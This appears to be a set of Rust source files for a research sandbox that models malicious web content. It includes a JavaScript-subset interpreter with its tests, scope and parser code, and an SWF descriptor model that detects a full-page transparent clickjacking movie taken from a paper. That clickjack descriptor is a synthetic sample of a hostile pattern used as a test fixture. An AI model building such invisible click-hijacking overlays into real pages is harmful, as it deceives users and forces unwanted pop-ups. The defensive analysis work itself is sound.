        assert_eq!(run("log('hello'.indexOf('ll'));"), vec!["2"]);
        assert_eq!(run("log('x-y'.replace('-', '+'));"), vec!["x+y"]);
    }

    #[test]
    fn array_methods() {
        assert_eq!(run("var a = [1,2]; a.push(3); log(a.length); log(a.join('-'));"), vec!["3", "1-2-3"]);
        assert_eq!(run("var a = [1,2,3]; log(a.pop()); log(a.length);"), vec!["3", "2"]);
        assert_eq!(run("var a = ['x','y']; log(a[1]);"), vec!["y"]);
    }

    #[test]
    fn object_literals_and_member_assignment() {
        assert_eq!(
            run("var o = {a: 1}; o.b = o.a + 1; log(o.b); o['c'] = 'z'; log(o.c);"),
            vec!["2", "z"]
        );
    }

    #[test]
    fn ternary_and_logic() {
        assert_eq!(run("log(1 < 2 ? 'y' : 'n');"), vec!["y"]);
        assert_eq!(run("log(0 || 'fallback');"), vec!["fallback"]);
        assert_eq!(run("log(1 && 2);"), vec!["2"]);
    }

    #[test]
    fn typeof_undefined_name_does_not_throw() {
        assert_eq!(run("log(typeof nothing_here);"), vec!["undefined"]);
    }

    #[test]
    fn hoisted_function_callable_before_decl() {
        assert_eq!(run("log(f()); function f() { return 'hoisted'; }"), vec!["hoisted"]);
    }

    #[test]
    fn recursion_with_depth() {
        assert_eq!(
            run("function fact(n) { return n <= 1 ? 1 : n * fact(n - 1); } log(fact(10));"),
            vec!["3628800"]
        );
    }

    #[test]
    fn infinite_loop_hits_budget() {
        let prog = parse_program("while (true) { var x = 1; }").unwrap();
        let env = Env::global();
        let mut host = TestHost { log: Vec::new() };
        let mut interp = Interp::new(10_000);
        assert_eq!(interp.run(&prog, &env, &mut host), Err(JsError::BudgetExhausted));
    }

    #[test]
    fn deep_recursion_hits_depth_cap() {
        let prog = parse_program("function f() { return f(); } f();").unwrap();
        let env = Env::global();
        let mut host = TestHost { log: Vec::new() };
        let mut interp = Interp::default();
        assert!(matches!(interp.run(&prog, &env, &mut host), Err(JsError::Runtime(_))));
    }

    #[test]
    fn try_catch_recovers() {
        assert_eq!(run("try { missing(); } catch (e) { log('caught'); }"), vec!["caught"]);
    }

    #[test]
    fn budget_exhaustion_not_catchable() {
        let prog =
            parse_program("try { while (true) {} } catch (e) { }").unwrap();
        let env = Env::global();
        let mut host = TestHost { log: Vec::new() };
        let mut interp = Interp::new(5_000);
        assert_eq!(interp.run(&prog, &env, &mut host), Err(JsError::BudgetExhausted));
    }

    #[test]
    fn parse_int_variants() {
        assert_eq!(run("log(parseInt('42px'));"), vec!["42"]);
        assert_eq!(run("log(parseInt('ff', 16));"), vec!["255"]);
        assert_eq!(run("log(parseInt('0x10'));"), vec!["16"]);
        assert_eq!(run("log(parseInt('-7'));"), vec!["-7"]);
    }

    #[test]
    fn post_increment_semantics() {
        assert_eq!(run("var i = 5; log(i++); log(i);"), vec!["5", "6"]);
    }

    #[test]
    fn this_binding_in_method_call() {
        assert_eq!(
            run("var o = {v: 7, get: function() { return this.v; }}; log(o.get());"),
            vec!["7"]
        );
    }

    #[test]
    fn arguments_object() {
        assert_eq!(run("function f() { return arguments.length; } log(f(1,2,3));"), vec!["3"]);
    }

    #[test]
    fn string_comparison_lexicographic() {
        assert_eq!(run("log('a' < 'b');"), vec!["true"]);
    }

    #[test]
    fn do_while_runs_at_least_once() {
        assert_eq!(run("var i = 10; do { log(i); } while (i < 5);"), vec!["10"]);
        assert_eq!(
            run("var i = 0; do { i++; } while (i < 3); log(i);"),
            vec!["3"]
        );
    }

    #[test]
    fn do_while_break_exits() {
        assert_eq!(
            run("var i = 0; do { i++; if (i == 2) break; } while (true); log(i);"),
            vec!["2"]
        );
    }

    #[test]
    fn for_in_enumerates_object_keys() {
        assert_eq!(
            run("var o = {a: 1, b: 2}; var keys = ''; for (var k in o) { keys += k; } log(keys);"),
            vec!["ab"]
        );
    }

    #[test]
    fn for_in_over_array_skips_length() {
        assert_eq!(
            run("var a = [10, 20, 30]; var s = 0; for (var i in a) { s += a[i]; } log(s);"),
            vec!["60"]
        );
    }

    #[test]
    fn for_in_over_string_yields_indices() {
        assert_eq!(
            run("var s = ''; for (var i in 'xyz') { s += i; } log(s);"),
            vec!["012"]
        );
    }

    #[test]
    fn switch_selects_matching_case() {
        assert_eq!(
            run("switch (2) { case 1: log('one'); break; case 2: log('two'); break; default: log('other'); }"),
            vec!["two"]
        );
    }

    #[test]
    fn switch_falls_through_without_break() {
        assert_eq!(
            run("switch (1) { case 1: log('a'); case 2: log('b'); break; case 3: log('c'); }"),
            vec!["a", "b"]
        );
    }

    #[test]
    fn switch_default_when_no_match() {
        assert_eq!(
            run("switch ('zz') { case 'a': log('a'); break; default: log('dflt'); }"),
            vec!["dflt"]
        );
    }

    #[test]
    fn switch_uses_strict_equality() {
        // '2' does not match 2 under ===.
        assert_eq!(
            run("switch ('2') { case 2: log('num'); break; default: log('none'); }"),
            vec!["none"]
        );
    }

    #[test]
    fn switch_return_propagates() {
        assert_eq!(
            run("function f(x) { switch (x) { case 1: return 'one'; default: return 'many'; } } log(f(1)); log(f(9));"),
            vec!["one", "many"]
        );
    }

    #[test]
    fn do_without_while_is_parse_error() {
        assert!(parse_program("do { x(); }").is_err());
    }
}
