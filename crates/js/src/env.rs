//! Lexical scope chain.

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;

use crate::value::Value;

/// Shared handle to a scope.
pub type EnvRef = Rc<RefCell<Env>>;

/// A single scope frame: bindings plus an optional parent.
#[derive(Debug, Default)]
pub struct Env {
    bindings: HashMap<String, Value>,
    parent: Option<EnvRef>,
}

impl Env {
    /// Creates the global scope.
    pub fn global() -> EnvRef {
        Rc::new(RefCell::new(Env::default()))
    }

    /// Creates a child scope of `parent`.
    pub fn child(parent: &EnvRef) -> EnvRef {
        Rc::new(RefCell::new(Env { bindings: HashMap::new(), parent: Some(parent.clone()) }))
    }

    /// Declares (or re-declares) a binding in *this* scope.
    pub fn declare(&mut self, name: impl Into<String>, value: Value) {
        self.bindings.insert(name.into(), value);
    }

    /// Looks a name up through the scope chain.
    pub fn lookup(env: &EnvRef, name: &str) -> Option<Value> {
        let e = env.borrow();
        if let Some(v) = e.bindings.get(name) {
            return Some(v.clone());
        }
        e.parent.as_ref().and_then(|p| Env::lookup(p, name))
    }

    /// Assigns to an existing binding, walking the chain. When no binding
    /// exists anywhere, the assignment creates a **global** (sloppy-mode
    /// JavaScript semantics, which the malware in the corpus relies on).
    pub fn assign(env: &EnvRef, name: &str, value: Value) {
        if Env::try_assign(env, name, &value) {
            return;
        }
        // Create on the global scope.
        let mut cur = env.clone();
        loop {
            let parent = cur.borrow().parent.clone();
            match parent {
                Some(p) => cur = p,
                None => break,
            }
        }
        cur.borrow_mut().bindings.insert(name.to_string(), value);
    }

    fn try_assign(env: &EnvRef, name: &str, value: &Value) -> bool {
        let mut e = env.borrow_mut();
        if e.bindings.contains_key(name) {
            e.bindings.insert(name.to_string(), value.clone());
            return true;
        }
        let parent = e.parent.clone();
        drop(e);
        parent.map(|p| Env::try_assign(&p, name, value)).unwrap_or(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_walks_chain() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        assert!(matches!(Env::lookup(&c, "x"), Some(Value::Num(n)) if n == 1.0));
        assert!(Env::lookup(&c, "y").is_none());
    }

    #[test]
    fn shadowing_in_child() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        c.borrow_mut().declare("x", Value::Num(2.0));
        assert!(matches!(Env::lookup(&c, "x"), Some(Value::Num(n)) if n == 2.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 1.0));
    }

    #[test]
    fn assign_updates_outer_binding() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        Env::assign(&c, "x", Value::Num(5.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 5.0));
    }

    #[test]
    fn assign_without_declaration_creates_global() {
        let g = Env::global();
        let c = Env::child(&g);
        Env::assign(&c, "implicit", Value::Bool(true));
        assert!(matches!(Env::lookup(&g, "implicit"), Some(Value::Bool(true))));
    }
}
