//! Lexical scope chain.
//!
//! Scopes come in two flavours. Plain scopes hold a name→value map and
//! are what the tree-walking interpreter always uses. Function
//! activation scopes created by the bytecode VM additionally carry a
//! *slot vector*: the compiler pre-resolves the function's parameters
//! and top-level declarations to dense indices, and the VM reads and
//! writes those through [`Env::get_slot`]/[`Env::set_slot`] without
//! hashing. Slot-mapped names never enter `bindings` — `declare`,
//! `lookup` and `assign` all route through the slot map first, so
//! dynamically injected code (an `eval` layer re-declaring a packed
//! payload's locals) observes exactly the same scope the interpreter
//! would build. An unset slot (`None`) means "not declared here": the
//! chain walk continues to the parent, mirroring a missing map entry.

use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;
use std::sync::Arc;

use crate::value::Value;

/// Shared handle to a scope.
pub type EnvRef = Rc<RefCell<Env>>;

/// A single scope frame: bindings plus an optional parent.
#[derive(Debug, Default)]
pub struct Env {
    bindings: HashMap<String, Value>,
    parent: Option<EnvRef>,
    /// Pre-resolved name→slot indices (function activation scopes built
    /// by the VM only; `None` for every interpreter-made scope).
    slot_map: Option<Arc<HashMap<String, u32>>>,
    /// Slot storage; `None` entries are undeclared.
    slots: Vec<Option<Value>>,
}

impl Env {
    /// Creates the global scope.
    pub fn global() -> EnvRef {
        Rc::new(RefCell::new(Env::default()))
    }

    /// Creates a child scope of `parent`.
    pub fn child(parent: &EnvRef) -> EnvRef {
        Rc::new(RefCell::new(Env {
            bindings: HashMap::new(),
            parent: Some(parent.clone()),
            slot_map: None,
            slots: Vec::new(),
        }))
    }

    /// Creates a slotted function activation scope of `parent` with
    /// `n_slots` undeclared slots resolved through `slot_map`.
    pub fn child_with_slots(
        parent: &EnvRef,
        slot_map: Arc<HashMap<String, u32>>,
        n_slots: u32,
    ) -> EnvRef {
        Rc::new(RefCell::new(Env {
            bindings: HashMap::new(),
            parent: Some(parent.clone()),
            slot_map: Some(slot_map),
            slots: vec![None; n_slots as usize],
        }))
    }

    /// The slot index `name` resolves to in *this* scope, if any.
    fn slot_of(&self, name: &str) -> Option<usize> {
        self.slot_map.as_ref().and_then(|m| m.get(name)).map(|&i| i as usize)
    }

    /// Reads slot `i` (`None` while undeclared).
    pub fn get_slot(&self, i: u32) -> Option<Value> {
        self.slots.get(i as usize).and_then(|v| v.clone())
    }

    /// Writes slot `i`, declaring it if it was unset.
    pub fn set_slot(&mut self, i: u32, value: Value) {
        self.slots[i as usize] = Some(value);
    }

    /// Declares (or re-declares) a binding in *this* scope.
    pub fn declare(&mut self, name: impl Into<String>, value: Value) {
        let name = name.into();
        if let Some(i) = self.slot_of(&name) {
            self.slots[i] = Some(value);
            return;
        }
        self.bindings.insert(name, value);
    }

    /// Looks a name up through the scope chain.
    pub fn lookup(env: &EnvRef, name: &str) -> Option<Value> {
        let e = env.borrow();
        if let Some(i) = e.slot_of(name) {
            if let Some(v) = &e.slots[i] {
                return Some(v.clone());
            }
        } else if let Some(v) = e.bindings.get(name) {
            return Some(v.clone());
        }
        e.parent.as_ref().and_then(|p| Env::lookup(p, name))
    }

    /// Assigns to an existing binding, walking the chain. When no binding
    /// exists anywhere, the assignment creates a **global** (sloppy-mode
    /// JavaScript semantics, which the malware in the corpus relies on).
    pub fn assign(env: &EnvRef, name: &str, value: Value) {
        if Env::try_assign(env, name, &value) {
            return;
        }
        // Create on the global scope.
        let mut cur = env.clone();
        loop {
            let parent = cur.borrow().parent.clone();
            match parent {
                Some(p) => cur = p,
                None => break,
            }
        }
        cur.borrow_mut().bindings.insert(name.to_string(), value);
    }

    fn try_assign(env: &EnvRef, name: &str, value: &Value) -> bool {
        let mut e = env.borrow_mut();
        if let Some(i) = e.slot_of(name) {
            if e.slots[i].is_some() {
                e.slots[i] = Some(value.clone());
                return true;
            }
        } else if e.bindings.contains_key(name) {
            e.bindings.insert(name.to_string(), value.clone());
            return true;
        }
        let parent = e.parent.clone();
        drop(e);
        parent.map(|p| Env::try_assign(&p, name, value)).unwrap_or(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_walks_chain() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        assert!(matches!(Env::lookup(&c, "x"), Some(Value::Num(n)) if n == 1.0));
        assert!(Env::lookup(&c, "y").is_none());
    }

    #[test]
    fn shadowing_in_child() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        c.borrow_mut().declare("x", Value::Num(2.0));
        assert!(matches!(Env::lookup(&c, "x"), Some(Value::Num(n)) if n == 2.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 1.0));
    }

    #[test]
    fn assign_updates_outer_binding() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let c = Env::child(&g);
        Env::assign(&c, "x", Value::Num(5.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 5.0));
    }

    #[test]
    fn assign_without_declaration_creates_global() {
        let g = Env::global();
        let c = Env::child(&g);
        Env::assign(&c, "implicit", Value::Bool(true));
        assert!(matches!(Env::lookup(&g, "implicit"), Some(Value::Bool(true))));
    }

    fn slot_map(names: &[&str]) -> Arc<HashMap<String, u32>> {
        Arc::new(names.iter().enumerate().map(|(i, n)| (n.to_string(), i as u32)).collect())
    }

    #[test]
    fn slotted_declare_and_lookup_route_through_slots() {
        let g = Env::global();
        let f = Env::child_with_slots(&g, slot_map(&["x", "y"]), 2);
        f.borrow_mut().declare("x", Value::Num(7.0));
        assert!(matches!(Env::lookup(&f, "x"), Some(Value::Num(n)) if n == 7.0));
        assert!(matches!(f.borrow().get_slot(0), Some(Value::Num(n)) if n == 7.0));
        // The map routed the declaration away from `bindings`.
        assert!(f.borrow().bindings.is_empty());
    }

    #[test]
    fn unset_slot_falls_through_to_parent() {
        let g = Env::global();
        g.borrow_mut().declare("x", Value::Num(1.0));
        let f = Env::child_with_slots(&g, slot_map(&["x"]), 1);
        // Undeclared slot: reads and writes reach the outer binding,
        // exactly like a missing map entry would.
        assert!(matches!(Env::lookup(&f, "x"), Some(Value::Num(n)) if n == 1.0));
        Env::assign(&f, "x", Value::Num(2.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 2.0));
        assert!(f.borrow().get_slot(0).is_none());
        // Once declared locally, the slot shadows the outer binding.
        f.borrow_mut().declare("x", Value::Num(3.0));
        Env::assign(&f, "x", Value::Num(4.0));
        assert!(matches!(Env::lookup(&f, "x"), Some(Value::Num(n)) if n == 4.0));
        assert!(matches!(Env::lookup(&g, "x"), Some(Value::Num(n)) if n == 2.0));
    }
}
