//! Abstract syntax tree for the JavaScript subset.

/// Binary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinOp {
    /// `+` — numeric addition or string concatenation.
    Add,
    /// `-`
    Sub,
    /// `*`
    Mul,
    /// `/`
    Div,
    /// `%`
    Mod,
    /// `==` (loose)
    Eq,
    /// `!=` (loose)
    Ne,
    /// `===`
    StrictEq,
    /// `!==`
    StrictNe,
    /// `<`
    Lt,
    /// `>`
    Gt,
    /// `<=`
    Le,
    /// `>=`
    Ge,
    /// `&&` (short-circuit)
    And,
    /// `||` (short-circuit)
    Or,
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnOp {
    /// `-x`
    Neg,
    /// `+x` (numeric coercion)
    Pos,
    /// `!x`
    Not,
    /// `typeof x`
    TypeOf,
}

/// An expression node.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// Numeric literal.
    Num(f64),
    /// String literal.
    Str(String),
    /// Boolean literal.
    Bool(bool),
    /// `null`
    Null,
    /// `undefined`
    Undefined,
    /// Identifier reference.
    Ident(String),
    /// Property access `obj.name`.
    Member(Box<Expr>, String),
    /// Computed access `obj[expr]`.
    Index(Box<Expr>, Box<Expr>),
    /// Function call.
    Call(Box<Expr>, Vec<Expr>),
    /// `new Ctor(args)`.
    New(Box<Expr>, Vec<Expr>),
    /// Simple assignment `lhs = rhs`.
    Assign(Box<Expr>, Box<Expr>),
    /// Compound assignment `lhs op= rhs`.
    AssignOp(BinOp, Box<Expr>, Box<Expr>),
    /// Binary operation.
    Binary(BinOp, Box<Expr>, Box<Expr>),
    /// Unary operation.
    Unary(UnOp, Box<Expr>),
    /// Conditional `c ? t : f`.
    Ternary(Box<Expr>, Box<Expr>, Box<Expr>),
    /// Function expression.
    Function {
        /// Optional function name (named function expressions).
        name: Option<String>,
        /// Parameter names.
        params: Vec<String>,
        /// Body statements.
        body: Vec<Stmt>,
    },
    /// Array literal.
    Array(Vec<Expr>),
    /// Object literal (key → value, source order).
    Object(Vec<(String, Expr)>),
    /// Postfix `x++`.
    PostIncr(Box<Expr>),
    /// Postfix `x--`.
    PostDecr(Box<Expr>),
}

/// A statement node.
#[derive(Debug, Clone, PartialEq)]
pub enum Stmt {
    /// Expression statement.
    Expr(Expr),
    /// `var` declaration list.
    Var(Vec<(String, Option<Expr>)>),
    /// `if`/`else`.
    If(Expr, Vec<Stmt>, Option<Vec<Stmt>>),
    /// `while` loop.
    While(Expr, Vec<Stmt>),
    /// C-style `for` loop.
    For {
        /// Initializer (a `var` or expression statement).
        init: Option<Box<Stmt>>,
        /// Loop condition; `None` means `true`.
        cond: Option<Expr>,
        /// Per-iteration update expression.
        update: Option<Expr>,
        /// Loop body.
        body: Vec<Stmt>,
    },
    /// `return expr?`.
    Return(Option<Expr>),
    /// Function declaration.
    Function {
        /// Declared name.
        name: String,
        /// Parameter names.
        params: Vec<String>,
        /// Body statements.
        body: Vec<Stmt>,
    },
    /// Braced block.
    Block(Vec<Stmt>),
    /// `break`.
    Break,
    /// `continue`.
    Continue,
    /// `try { .. } catch (e) { .. }` — finally is not modelled.
    TryCatch(Vec<Stmt>, String, Vec<Stmt>),
    /// `do { .. } while (cond)` — body runs at least once.
    DoWhile(Vec<Stmt>, Expr),
    /// `for (var k in obj) { .. }` — iterates own property keys.
    ForIn {
        /// Loop variable name.
        var: String,
        /// Object whose keys are enumerated.
        object: Expr,
        /// Loop body.
        body: Vec<Stmt>,
    },
    /// `switch (disc) { case .. default .. }` with standard fall-through.
    Switch {
        /// Discriminant expression.
        disc: Expr,
        /// `(test, body)` arms in source order.
        cases: Vec<(Expr, Vec<Stmt>)>,
        /// `default:` arm body, if present.
        default: Option<Vec<Stmt>>,
    },
    /// Bare `;`.
    Empty,
}
