//! Flash (SWF) behavioural model.
//!
//! The paper's §V-D decompiles a malicious Flash file (`AdFlash46.swf`)
//! and finds an invisible, full-page movie clip whose click handler fires
//! `ExternalInterface.call` into obfuscated JavaScript, opening pop-up
//! advertisements. Real SWF bytecode is out of scope (and Flash is dead);
//! instead the synthetic web embeds *SWF descriptors* — a compact textual
//! format capturing exactly the behavioural surface the analysis needs —
//! and this module parses and "executes" them.
//!
//! Descriptor grammar (one directive per `;`-separated field):
//!
//! ```text
//! SWF1;name=AdFlash46;fullpage;transparent;allowdomain=*;onclick=AdFlash.onClick,window.NqPnfu
//! ```

use crate::sandbox::Effect;

/// A parsed SWF descriptor.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SwfMovie {
    /// Movie name (class name in the decompiled source).
    pub name: String,
    /// Whether the stage is scaled to cover the whole page
    /// (`StageScaleMode.EXACT_FIT` over a full-page embed).
    pub full_page: bool,
    /// Whether the movie is rendered transparent (`wmode=transparent`).
    pub transparent: bool,
    /// Value of `Security.allowDomain(...)`, if called.
    pub allow_domain: Option<String>,
    /// `ExternalInterface.call` targets fired from the MOUSE_UP handler.
    pub on_click_calls: Vec<String>,
    /// `ExternalInterface.call` targets fired on load.
    pub on_load_calls: Vec<String>,
}

/// Error parsing an SWF descriptor.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseSwfError {
    /// Human-readable reason.
    pub reason: String,
}

impl std::fmt::Display for ParseSwfError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "invalid swf descriptor: {}", self.reason)
    }
}

impl std::error::Error for ParseSwfError {}

impl SwfMovie {
    /// Parses a descriptor string.
    ///
    /// # Errors
    ///
    /// Fails when the magic `SWF1` header is missing or a directive is
    /// unknown.
    pub fn parse(descriptor: &str) -> Result<SwfMovie, ParseSwfError> {
        let mut fields = descriptor.trim().split(';');
        let magic = fields.next().unwrap_or_default();
        if magic != "SWF1" {
            return Err(ParseSwfError { reason: format!("bad magic {magic:?}") });
        }
        let mut movie = SwfMovie {
            name: "unnamed".into(),
            full_page: false,
            transparent: false,
            allow_domain: None,
            on_click_calls: Vec::new(),
            on_load_calls: Vec::new(),
        };
        for field in fields {
            let field = field.trim();
            if field.is_empty() {
                continue;
            }
            match field.split_once('=') {
                None => match field {
                    "fullpage" => movie.full_page = true,
                    "transparent" => movie.transparent = true,
                    other => {
                        return Err(ParseSwfError { reason: format!("unknown flag {other:?}") })
                    }
                },
                Some((key, value)) => match key {
                    "name" => movie.name = value.to_string(),
                    "allowdomain" => movie.allow_domain = Some(value.to_string()),
                    "onclick" => {
                        movie.on_click_calls =
                            value.split(',').map(|s| s.trim().to_string()).collect()
                    }
                    "onload" => {
                        movie.on_load_calls =
                            value.split(',').map(|s| s.trim().to_string()).collect()
                    }
                    other => {
                        return Err(ParseSwfError { reason: format!("unknown key {other:?}") })
                    }
                },
            }
        }
        Ok(movie)
    }

    /// Serializes back to descriptor form (inverse of [`SwfMovie::parse`]).
    pub fn to_descriptor(&self) -> String {
        let mut parts = vec!["SWF1".to_string(), format!("name={}", self.name)];
        if self.full_page {
            parts.push("fullpage".into());
        }
        if self.transparent {
            parts.push("transparent".into());
        }
        if let Some(d) = &self.allow_domain {
            parts.push(format!("allowdomain={d}"));
        }
        if !self.on_click_calls.is_empty() {
            parts.push(format!("onclick={}", self.on_click_calls.join(",")));
        }
        if !self.on_load_calls.is_empty() {
            parts.push(format!("onload={}", self.on_load_calls.join(",")));
        }
        parts.join(";")
    }

    /// Simulates loading the movie: returns the effects of its `onload`
    /// external calls.
    pub fn load(&self) -> Vec<Effect> {
        self.on_load_calls
            .iter()
            .map(|name| Effect::ExternalCall { name: name.clone(), args: Vec::new() })
            .collect()
    }

    /// Simulates a user click anywhere on the page while the movie is
    /// present. For a full-page transparent movie this hijacks the click
    /// (the §V-D click-jacking pattern); otherwise clicks only land when
    /// aimed at the movie itself (`aimed_at_movie`).
    pub fn click(&self, aimed_at_movie: bool) -> Vec<Effect> {
        let hijacks_all_clicks = self.full_page && self.transparent;
        if !aimed_at_movie && !hijacks_all_clicks {
            return Vec::new();
        }
        self.on_click_calls
            .iter()
            .map(|name| Effect::ExternalCall { name: name.clone(), args: Vec::new() })
            .collect()
    }

    /// True when the movie exhibits the invisible-clickjack pattern:
    /// full-page + transparent + click handler calling out to JS.
    pub fn is_clickjack(&self) -> bool {
        self.full_page && self.transparent && !self.on_click_calls.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ADFLASH: &str =
        "SWF1;name=AdFlash46;fullpage;transparent;allowdomain=*;onclick=AdFlash.onClick,window.NqPnfu";

    #[test]
    fn parses_paper_example() {
        let m = SwfMovie::parse(ADFLASH).unwrap();
        assert_eq!(m.name, "AdFlash46");
        assert!(m.full_page);
        assert!(m.transparent);
        assert_eq!(m.allow_domain.as_deref(), Some("*"));
        assert_eq!(m.on_click_calls, vec!["AdFlash.onClick", "window.NqPnfu"]);
        assert!(m.is_clickjack());
    }

    #[test]
    fn descriptor_round_trip() {
        let m = SwfMovie::parse(ADFLASH).unwrap();
        let re = SwfMovie::parse(&m.to_descriptor()).unwrap();
        assert_eq!(m, re);
    }

    #[test]
    fn click_anywhere_hijacked_when_fullpage_transparent() {
        let m = SwfMovie::parse(ADFLASH).unwrap();
        let effects = m.click(false);
        assert_eq!(effects.len(), 2);
        assert!(matches!(&effects[0], Effect::ExternalCall { name, .. } if name == "AdFlash.onClick"));
    }

    #[test]
    fn benign_banner_only_reacts_to_direct_clicks() {
        let m = SwfMovie::parse("SWF1;name=banner;onclick=Banner.track").unwrap();
        assert!(!m.is_clickjack());
        assert!(m.click(false).is_empty());
        assert_eq!(m.click(true).len(), 1);
    }

    #[test]
    fn onload_calls_fire_on_load() {
        let m = SwfMovie::parse("SWF1;name=x;onload=Boot.init").unwrap();
        let effects = m.load();
        assert!(matches!(&effects[0], Effect::ExternalCall { name, .. } if name == "Boot.init"));
    }

    #[test]
    fn bad_magic_rejected() {
        assert!(SwfMovie::parse("FWS9;whatever").is_err());
        assert!(SwfMovie::parse("").is_err());
    }

    #[test]
    fn unknown_directive_rejected() {
        assert!(SwfMovie::parse("SWF1;explode").is_err());
        assert!(SwfMovie::parse("SWF1;magic=beans").is_err());
    }
}
