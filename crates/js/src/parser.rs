//! Recursive-descent / Pratt parser producing the [`crate::ast`] tree.

use crate::ast::{BinOp, Expr, Stmt, UnOp};
use crate::lexer::{lex, Token};
use crate::JsError;

/// Parses a complete program into a statement list.
///
/// # Errors
///
/// Returns [`JsError::Lex`] or [`JsError::Parse`] on malformed input. The
/// parser never panics on any token stream.
pub fn parse_program(src: &str) -> Result<Vec<Stmt>, JsError> {
    let tokens = lex(src)?;
    let mut parser = Parser { tokens, pos: 0 };
    let mut stmts = Vec::new();
    while !parser.at_end() {
        stmts.push(parser.statement()?);
    }
    Ok(stmts)
}

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn at_end(&self) -> bool {
        self.pos >= self.tokens.len()
    }

    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.pos)
    }

    fn advance(&mut self) -> Option<Token> {
        let t = self.tokens.get(self.pos).cloned();
        if t.is_some() {
            self.pos += 1;
        }
        t
    }

    fn eat_punct(&mut self, p: &str) -> bool {
        if matches!(self.peek(), Some(Token::Punct(q)) if *q == p) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect_punct(&mut self, p: &str) -> Result<(), JsError> {
        if self.eat_punct(p) {
            Ok(())
        } else {
            Err(JsError::Parse(format!("expected {p:?}, found {:?}", self.peek())))
        }
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if matches!(self.peek(), Some(Token::Ident(i)) if i == kw) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect_ident(&mut self) -> Result<String, JsError> {
        match self.advance() {
            Some(Token::Ident(i)) => Ok(i),
            other => Err(JsError::Parse(format!("expected identifier, found {other:?}"))),
        }
    }

    // ---- statements ---------------------------------------------------

    fn statement(&mut self) -> Result<Stmt, JsError> {
        if self.eat_punct(";") {
            return Ok(Stmt::Empty);
        }
        if self.eat_punct("{") {
            let mut body = Vec::new();
            while !self.eat_punct("}") {
                if self.at_end() {
                    return Err(JsError::Parse("unterminated block".into()));
                }
                body.push(self.statement()?);
            }
            return Ok(Stmt::Block(body));
        }
        if self.eat_keyword("var") || self.eat_keyword("let") || self.eat_keyword("const") {
            return self.var_statement();
        }
        if self.eat_keyword("if") {
            return self.if_statement();
        }
        if self.eat_keyword("while") {
            self.expect_punct("(")?;
            let cond = self.expression()?;
            self.expect_punct(")")?;
            let body = self.stmt_as_block()?;
            return Ok(Stmt::While(cond, body));
        }
        if self.eat_keyword("for") {
            return self.for_statement();
        }
        if self.eat_keyword("return") {
            if self.eat_punct(";") {
                return Ok(Stmt::Return(None));
            }
            if self.at_end() || matches!(self.peek(), Some(Token::Punct("}"))) {
                return Ok(Stmt::Return(None));
            }
            let e = self.expression()?;
            self.eat_punct(";");
            return Ok(Stmt::Return(Some(e)));
        }
        if self.eat_keyword("break") {
            self.eat_punct(";");
            return Ok(Stmt::Break);
        }
        if self.eat_keyword("continue") {
            self.eat_punct(";");
            return Ok(Stmt::Continue);
        }
        if self.eat_keyword("try") {
            return self.try_statement();
        }
        if self.eat_keyword("do") {
            let body = self.stmt_as_block()?;
            if !self.eat_keyword("while") {
                return Err(JsError::Parse("do without while".into()));
            }
            self.expect_punct("(")?;
            let cond = self.expression()?;
            self.expect_punct(")")?;
            self.eat_punct(";");
            return Ok(Stmt::DoWhile(body, cond));
        }
        if self.eat_keyword("switch") {
            return self.switch_statement();
        }
        // `function name(...) {...}` declaration (only when followed by a
        // name; otherwise it is a function expression).
        if matches!(self.peek(), Some(Token::Ident(i)) if i == "function")
            && matches!(self.tokens.get(self.pos + 1), Some(Token::Ident(_)))
        {
            self.pos += 1;
            let name = self.expect_ident()?;
            let (params, body) = self.function_rest()?;
            return Ok(Stmt::Function { name, params, body });
        }
        let expr = self.expression()?;
        self.eat_punct(";");
        Ok(Stmt::Expr(expr))
    }

    fn var_statement(&mut self) -> Result<Stmt, JsError> {
        let mut decls = Vec::new();
        loop {
            let name = self.expect_ident()?;
            let init = if self.eat_punct("=") { Some(self.assignment()?) } else { None };
            decls.push((name, init));
            if !self.eat_punct(",") {
                break;
            }
        }
        self.eat_punct(";");
        Ok(Stmt::Var(decls))
    }

    fn if_statement(&mut self) -> Result<Stmt, JsError> {
        self.expect_punct("(")?;
        let cond = self.expression()?;
        self.expect_punct(")")?;
        let then = self.stmt_as_block()?;
        let els = if self.eat_keyword("else") { Some(self.stmt_as_block()?) } else { None };
        Ok(Stmt::If(cond, then, els))
    }

    fn for_statement(&mut self) -> Result<Stmt, JsError> {
        self.expect_punct("(")?;
        // `for (var k in obj)` — detect the for-in header shape before
        // committing to the C-style parse.
        if matches!(self.peek(), Some(Token::Ident(kw)) if kw == "var" || kw == "let")
